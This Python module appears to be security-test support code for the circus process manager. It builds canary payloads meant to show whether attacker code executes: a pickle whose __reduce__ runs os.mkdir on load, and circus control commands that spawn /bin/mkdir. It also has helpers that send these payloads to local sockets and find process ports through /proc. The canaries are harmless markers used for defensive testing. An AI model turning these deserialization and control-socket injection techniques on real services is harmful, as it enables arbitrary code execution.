"""What an attacker sends, and the canary that shows whether it was executed."""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import socket
import uuid
from pathlib import Path
from typing import Any


class Canary:
    """A file that exists once code of an attacker's was executed.

    Args:
        path: Where.
    """

    def __init__(self, path: Path) -> None:
        self.path = path

    @property
    def has_sung(self) -> bool:
        return self.path.exists()

    def pickled(self) -> bytes:
        """A pickle that makes the file when it is loaded."""
        path = str(self.path)

        class Payload:
            def __reduce__(self) -> Any:
                return os.mkdir, (path,)

        return pickle.dumps(Payload())

    def circus_commands(self) -> list[dict[str, Any]]:
        """Commands of circus's control protocol that would make the file."""
        add = {
            "command": "add",
            "id": uuid.uuid4().hex,
            "properties": {"name": "evil", "cmd": "/bin/mkdir", "args": [str(self.path)], "start": True},
        }
        change = {
            "command": "set",
            "id": uuid.uuid4().hex,
            "properties": {"name": "service", "options": {"cmd": f"/bin/mkdir {self.path}"}},
        }
        return [add, change, {"command": "options", "id": "1", "properties": {"name": "service"}}]


def send_circus_command(port: int, command: dict[str, Any]) -> Any:
    """What circus's own client does; None when nobody answers."""
    import zmq

    context = zmq.Context()
    try:
        with context.socket(zmq.DEALER) as client:
            client.setsockopt(zmq.IDENTITY, uuid.uuid4().bytes)
            client.setsockopt(zmq.LINGER, 0)
            client.connect(f"tcp://127.0.0.1:{port}")
            client.send(json.dumps(command).encode())
            if not client.poll(500):
                return None
            try:
                return json.loads(client.recv())
            except ValueError:  # somebody answers who speaks another protocol, and so has not understood
                return None
    finally:
        context.destroy(linger=0)


def send_to_unix_socket(path: Path, content: bytes) -> bytes:
    """Send bytes to a socket, and give what comes back until it is closed or silent."""
    received = b""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        client.settimeout(1.0)
        client.connect(str(path))
        try:
            client.sendall(content)
            while part := client.recv(65536):
                received += part
        except OSError:
            pass
    return received


def tcp_ports_of(pids: list[int]) -> set[int]:
    """TCP ports that any of these processes listens on."""
    inodes = _sockets_of(pids)
    rows = [
        line.split()
        for table in ("/proc/net/tcp", "/proc/net/tcp6")
        for line in Path(table).read_text().splitlines()[1:]
    ]
    return {int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A" and row[9] in inodes}


def unix_sockets_of(pids: list[int]) -> set[str]:
    """Paths and abstract names of unix sockets that any of these processes has bound."""
    inodes = _sockets_of(pids)
    rows = [line.split() for line in Path("/proc/net/unix").read_text().splitlines()[1:]]
    return {row[7] for row in rows if len(row) > 7 and row[6] in inodes}


def _sockets_of(pids: list[int]) -> set[str]:
    """Inodes of the sockets that any of these processes has open."""
    found = set()
    for pid in pids:
        for link in Path(f"/proc/{pid}/fd").glob("*"):
            with contextlib.suppress(OSError):
                target = str(link.readlink())
                if target.startswith("socket:["):
                    found.add(target[8:-1])
    return found
